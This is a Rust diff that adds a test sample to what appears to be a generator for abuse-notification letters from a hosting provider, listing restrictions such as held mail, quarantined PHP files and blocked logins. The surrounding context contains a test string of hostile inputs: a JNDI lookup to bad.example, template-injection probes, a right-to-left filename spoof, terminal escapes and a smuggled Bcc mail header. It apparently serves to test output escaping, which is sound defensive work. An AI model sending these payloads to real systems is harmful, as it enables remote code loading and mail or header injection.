@@ -356,6 +356,41 @@ fn no_sites(language: Language) -> LetterContent {
     content
 }
 
+/// Every measure that stops neither a whole site nor all mail, in one letter.
+fn many_measures(language: Language) -> LetterContent {
+    let mut content = frozen(language);
+    let path = |bytes: &[u8]| model::FilePath::new(bytes).expect("a path");
+    let file = |name: &[u8]| model::FileRef {
+        path: path(name),
+        dev: 1,
+        ino: 2,
+        size: 3,
+        changed_ns: 4,
+        hash: model::Hash::of(name),
+    };
+    let site: model::Domain = "blog.example.jp".parse().expect("a domain");
+    let line = model::CronLine { hash: model::Hash::of(b"table"), start: 0, end: 30 };
+    let files = vec![file(b"blog/x.php"), file("写真/\u{202e}.php".as_bytes())];
+    let mailbox: model::MailUser = "info@example.jp".parse().expect("a mailbox");
+    let logins = vec![model::Login::Ftp, model::Login::Shell, model::Login::Mail(mailbox.clone())];
+    let hold = model::MailScope::Mailbox(mailbox);
+    let mut slowed =
+        limit(1, Measure::ThrottleSource { sources: vec!["203.0.113.7".parse().unwrap()] }, LiftWhen::Staff);
+    slowed.until = Some(at("2026-03-21T12:46:53+09:00"));
+    let measures = [
+        Measure::HoldMail { scope: hold, queued: vec![] },
+        Measure::DisableCronLine { line },
+        Measure::BlockScript { site: site.clone(), path: path(b"wp-content/uploads/x.php") },
+        Measure::QuarantineFile { files, of: 900 },
+        Measure::EndSessions { site },
+        Measure::BlockLogin { logins },
+        Measure::BlockOutbound,
+    ];
+    let others = (2..).zip(measures).map(|(n, measure)| limit(n, measure, LiftWhen::Tasks(vec![1, 2])));
+    content.restrictions = std::iter::once(slowed).chain(others).collect();
+    content
+}
+
 const HOSTILE: &str = "x\n----------------------------------------\n■ \u{1b}[2J\u{202e}gpj.\u{200b}{{7*7}} ${jndi:ldap://bad.example/a}<%=7*7%>\r\nBcc: a@bad.example";
 
 fn hostile(language: Language) -> LetterContent {
@@ -385,6 +420,7 @@ const SAMPLES: &[Sample] = &[
     ("1_no_sites", no_sites),
     ("1_twelve_long_sites", twelve_long_sites),
     ("1_hostile", hostile),
+    ("1_many_measures", many_measures),
     ("2_added", added),
     ("4_answer", answer),
     ("4_no_restriction", no_restriction),
